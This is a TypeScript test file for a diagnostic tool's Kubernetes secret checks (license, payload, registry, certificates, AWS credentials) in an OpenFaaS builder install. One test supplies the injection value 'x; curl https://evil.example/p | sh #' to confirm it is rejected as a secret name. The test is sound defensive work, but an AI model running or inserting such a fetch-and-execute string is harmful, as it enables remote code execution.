import { describe, expect, it } from 'vitest';
import { certSecretData, generateCertificateSet } from '../../../shared/certs/index.js';
import { runChecks } from '../runner.js';
import { helmStatusJson } from '../../../platform/helm/testing/fakeHelm.js';
import { DEPLOYED_AT, NOW, NS, secret, serviceAccount } from '../testing/fixtures.js';
import { chartValues, healthyScenario, LICENSE_VALUE, PAYLOAD_VALUE, testCertificates, type Scenario } from '../testing/scenario.js';
import type { Check } from '../types.js';
import { awsCredentialsSecret, buildSecretsKey, certificateSecrets, licenseSecret, payloadSecret, registrySecret } from './secrets.js';

async function one(check: Check, s: Scenario) {
  const [o, ...rest] = await runChecks([check], s.ctx());
  expect(rest).toEqual([]);
  return o!;
}

function put(s: Scenario, sec: ReturnType<typeof secret>) {
  s.kube.secrets.set(`${NS}/${sec.metadata!.name}`, sec);
}

/** registry-secret holding this Docker config.json. */
function putRegistryConfig(s: Scenario, config: object) {
  put(s, secret('registry-secret', { 'config.json': JSON.stringify(config) }));
}

/** A healthy install whose pod uses IRSA, with a role in account 123456789012. */
async function irsaScenario() {
  const s = await healthyScenario();
  s.helm.values = chartValues({ serviceAccount: 'pro-builder-ecr' });
  s.kube.serviceAccounts.set(
    `${NS}/pro-builder-ecr`,
    serviceAccount('pro-builder-ecr', { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::123456789012:role/pro-builder-ecr' }),
  );
  return s;
}

describe('secrets.license', () => {
  it('fails with the create command when the secret is missing', async () => {
    const s = await healthyScenario();
    s.kube.secrets.delete(`${NS}/openfaas-license`);
    const o = await one(licenseSecret, s);
    expect(o).toMatchObject({ status: 'fail', summary: 'Secret openfaas-license does not exist in namespace openfaas.' });
    expect(o.fix).toBe('kubectl create secret generic openfaas-license --from-file "license=$HOME/.openfaas/LICENSE" -n openfaas');
  });

  it('names the keys it found when the license is under the wrong key, without the value', async () => {
    const s = await healthyScenario();
    put(s, secret('openfaas-license', { LICENSE: LICENSE_VALUE }));
    const o = await one(licenseSecret, s);
    expect(o.status).toBe('fail');
    expect(o.summary).toBe('Secret openfaas-license has no key license.');
    expect(o.evidence).toContain(`key LICENSE: ${LICENSE_VALUE.length} bytes`);
    expect(JSON.stringify(o)).not.toContain(LICENSE_VALUE);
  });

  it('fails on an empty license', async () => {
    const s = await healthyScenario();
    put(s, secret('openfaas-license', { license: '\n' }));
    expect((await one(licenseSecret, s)).summary).toBe('Secret openfaas-license has an empty license.');
  });
});

describe('secrets.payload', () => {
  it('fails a trailing newline (signatures cover the exact bytes) and never prints the value', async () => {
    const s = await healthyScenario();
    put(s, secret('payload-secret', { 'payload-secret': `${PAYLOAD_VALUE}\n` }));
    const o = await one(payloadSecret, s);
    expect(o.status).toBe('fail');
    expect(o.summary).toContain('ends with a newline');
    // Not a re-run of install (which keeps the secret) nor --from-file ./payload.txt (which may hold the same bytes).
    expect(o.fix).toBe('probuilder-setup rotate signing-secret --namespace openfaas');
    expect(o.hint).toContain('writes a new payload.txt');
    expect(o.hint).not.toContain('install');
    expect(JSON.stringify(o)).not.toContain(PAYLOAD_VALUE);
  });

  it('fails a short secret', async () => {
    const s = await healthyScenario();
    put(s, secret('payload-secret', { 'payload-secret': 'hunter2' }));
    const o = await one(payloadSecret, s);
    expect(o.status).toBe('fail');
    expect(JSON.stringify(o)).not.toContain('hunter2');
  });

  it('fails when the file was stored under another key', async () => {
    const s = await healthyScenario();
    put(s, secret('payload-secret', { 'payload.txt': PAYLOAD_VALUE }));
    const o = await one(payloadSecret, s);
    expect(o).toMatchObject({ status: 'fail', summary: 'Secret payload-secret has no key payload-secret.' });
    expect(o.fix).toBe('probuilder-setup rotate signing-secret --namespace openfaas');
  });
});

describe('secrets.registry', () => {
  it('explains a docker-registry typed secret (.dockerconfigjson instead of config.json)', async () => {
    const s = await healthyScenario();
    put(s, secret('registry-secret', { '.dockerconfigjson': '{"auths":{}}' }, 'kubernetes.io/dockerconfigjson'));
    const o = await one(registrySecret, s);
    expect(o.status).toBe('fail');
    expect(o.hint).toContain('kubectl create secret docker-registry');
    expect(o.evidence).toContain('type kubernetes.io/dockerconfigjson');
  });

  it('fails a config.json that relies on a desktop credential store', async () => {
    const s = await healthyScenario();
    putRegistryConfig(s, { auths: { 'https://index.docker.io/v1/': {} }, credsStore: 'desktop' });
    const o = await one(registrySecret, s);
    expect(o.status).toBe('fail');
    expect(o.summary).toContain('"credsStore" to "desktop"');
    expect(o.evidence).toContain('credsStore: desktop');
  });

  it('accepts the anonymous ttl.sh config', async () => {
    const s = await healthyScenario();
    put(s, secret('registry-secret', { 'config.json': '{\n  "auths": {}\n}\n' }));
    expect((await one(registrySecret, s)).status).toBe('pass');
  });

  it('warns about a registry on a loopback address: inside the pod it is the pod itself', async () => {
    for (const host of ['127.0.0.1:5000', 'localhost:5000']) {
      const s = await healthyScenario();
      putRegistryConfig(s, { auths: { [host]: { auth: Buffer.from('u:p').toString('base64') } } });
      const o = await one(registrySecret, s);
      expect(o.status, host).toBe('warn');
      expect(o.summary).toContain(`${host}" is a loopback address`);
      expect(o.hint).toContain('registry Service');
    }
  });

  it('with IRSA, warns when config.json has no ECR registry or one in another account', async () => {
    const none = await one(registrySecret, await irsaScenario());
    expect(none).toMatchObject({ status: 'warn' });
    expect(none.summary).toContain('config.json names no ECR registry');

    const s2 = await irsaScenario();
    putRegistryConfig(s2, { credHelpers: { '210987654321.dkr.ecr.eu-west-1.amazonaws.com': 'ecr-login' } });
    const other = await one(registrySecret, s2);
    expect(other.status).toBe('warn');
    expect(other.summary).toContain('not in account 123456789012');

    const s3 = await irsaScenario();
    putRegistryConfig(s3, { credHelpers: { '123456789012.dkr.ecr.eu-west-1.amazonaws.com': 'ecr-login' } });
    expect((await one(registrySecret, s3)).status).toBe('pass');
  });
});

describe('secrets.certificates', () => {
  it('does not apply to the socket generation', async () => {
    const s = await healthyScenario();
    s.helm.status = helmStatusJson({ chartVersion: '0.6.10', lastDeployed: DEPLOYED_AT });
    expect(await one(certificateSecrets, s)).toMatchObject({ status: 'skipped', skipReason: 'not-applicable' });
  });

  it('warns when the certificates expire within 30 days', async () => {
    const s = await healthyScenario();
    const soon = certSecretData(await generateCertificateSet({ now: NOW, days: 10 }));
    put(s, secret('buildkit-daemon-certs', soon.daemon));
    put(s, secret('buildkit-client-certs', soon.client));
    const o = await one(certificateSecrets, s);
    expect(o.status).toBe('warn');
    expect(o.summary).toMatch(/expires on 2025-03-24T12:00:00Z \(in 10 days\)/);
  });

  it('fails when the two secrets come from different CAs, and offers the rotate command', async () => {
    const s = await healthyScenario();
    const other = certSecretData(await generateCertificateSet({ now: NOW }));
    put(s, secret('buildkit-client-certs', other.client));
    const o = await one(certificateSecrets, s);
    expect(o.status).toBe('fail');
    expect(o.evidence.join('\n')).toContain('different CAs');
    expect(o.fix).toBe('probuilder-setup rotate certs --namespace openfaas');
  });

  it('fails when the daemon secret is missing and never prints key material', async () => {
    const s = await healthyScenario();
    s.kube.secrets.delete(`${NS}/buildkit-daemon-certs`);
    const o = await one(certificateSecrets, s);
    expect(o.status).toBe('fail');
    expect(o.summary).toContain('buildkit-daemon-certs does not exist');
    const set = await testCertificates();
    const text = JSON.stringify(o);
    expect(text).not.toContain('PRIVATE KEY');
    expect(text).not.toContain(set.clientKey.split('\n')[1]!);
  });
});

describe('secrets.aws-credentials', () => {
  it('does not apply without awsCredentialsSecret', async () => {
    const s = await healthyScenario();
    expect((await one(awsCredentialsSecret, s)).status).toBe('skipped');
  });

  it('never puts a hostile name from the release into a fix command: it is refused as a name, with no command to paste', async () => {
    const s = await healthyScenario();
    s.helm.values = chartValues({ awsCredentialsSecret: 'x; curl https://evil.example/p | sh #' });
    const o = await one(awsCredentialsSecret, s);
    expect(o.status).toBe('fail');
    expect(o.summary).toMatch(/^awsCredentialsSecret in the release's values is not a valid secret name: /);
    expect(o.fix).toBeUndefined();
  });

  it('needs the key named like the secret, as the chart sets AWS_SHARED_CREDENTIALS_FILE', async () => {
    const s = await healthyScenario();
    s.helm.values = chartValues({ awsCredentialsSecret: 'aws-ecr-credentials' });
    put(
      s,
      secret('aws-ecr-credentials', {
        credentials: '[default]\naws_access_key_id=AKIAIOSFODNN7EXAMPLE\naws_secret_access_key=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\n',
      }),
    );
    const o = await one(awsCredentialsSecret, s);
    expect(o.status).toBe('fail');
    expect(o.summary).toBe('Secret aws-ecr-credentials has no key aws-ecr-credentials.');
    expect(o.fix).toBe(
      'kubectl create secret generic aws-ecr-credentials --from-file aws-ecr-credentials=./ecr-credentials.txt -n openfaas',
    );
    expect(JSON.stringify(o)).not.toContain('SENTINEL01');
  });

  it('checks the INI shape', async () => {
    const s = await healthyScenario();
    s.helm.values = chartValues({ awsCredentialsSecret: 'aws-ecr-credentials' });
    put(
      s,
      secret('aws-ecr-credentials', {
        'aws-ecr-credentials':
          '[builder]\naws_access_key_id=AKIAIOSFODNN7EXAMPLE\naws_secret_access_key=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\n',
      }),
    );
    const o = await one(awsCredentialsSecret, s);
    expect(o.status).toBe('fail');
    expect(o.summary).toContain('no [default] profile');
    expect(o.evidence).toContain('profiles: builder');
    put(
      s,
      secret('aws-ecr-credentials', {
        'aws-ecr-credentials':
          '[default]\naws_access_key_id=AKIAIOSFODNN7EXAMPLE\naws_secret_access_key=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\n',
      }),
    );
    const s2 = await healthyScenario();
    s2.helm.values = s.helm.values;
    s2.kube.secrets = s.kube.secrets;
    expect((await one(awsCredentialsSecret, s2)).status).toBe('pass');
  });
});

describe('secrets.build-secrets-key', () => {
  /** A release whose values set only privateKeySecret (no computed privateKeyKey), on the given chart. */
  async function buildSecretsScenario(chartVersion: string) {
    const s = await healthyScenario();
    s.helm.status = helmStatusJson({ chartVersion, lastDeployed: DEPLOYED_AT });
    s.helm.values = chartValues({ buildSecrets: { privateKeySecret: 'pro-builder-build-secrets' } });
    return s;
  }

  it("takes the key the release's chart reads by default: private.key on 0.6.7, key from 0.6.8", async () => {
    const old = await buildSecretsScenario('0.6.7');
    put(old, secret('pro-builder-build-secrets', { key: 'k' }));
    const o = await one(buildSecretsKey, old);
    expect(o).toMatchObject({ status: 'fail', summary: 'Secret pro-builder-build-secrets has no key private.key.' });
    expect(o.fix).toBe('kubectl create secret generic pro-builder-build-secrets --from-file private.key=./key -n openfaas');
    put(old, secret('pro-builder-build-secrets', { 'private.key': 'k' }));
    expect(await one(buildSecretsKey, old)).toMatchObject({
      status: 'pass',
      summary: 'pro-builder-build-secrets holds the build secrets key under private.key.',
    });

    const current = await buildSecretsScenario('0.6.8');
    put(current, secret('pro-builder-build-secrets', { 'private.key': 'k' }));
    expect(await one(buildSecretsKey, current)).toMatchObject({
      status: 'fail',
      summary: 'Secret pro-builder-build-secrets has no key key.',
    });
  });

  it('names the default key in the create command when the secret is missing', async () => {
    const o = await one(buildSecretsKey, await buildSecretsScenario('0.6.7'));
    expect(o.status).toBe('fail');
    expect(o.fix).toBe('kubectl create secret generic pro-builder-build-secrets --from-file private.key=./key -n openfaas');
  });

  it('a privateKeyKey in the values wins over the default', async () => {
    const s = await buildSecretsScenario('0.6.7');
    s.helm.values = chartValues({ buildSecrets: { privateKeySecret: 'pro-builder-build-secrets', privateKeyKey: 'nacl' } });
    put(s, secret('pro-builder-build-secrets', { nacl: 'k' }));
    expect((await one(buildSecretsKey, s)).status).toBe('pass');
  });
});
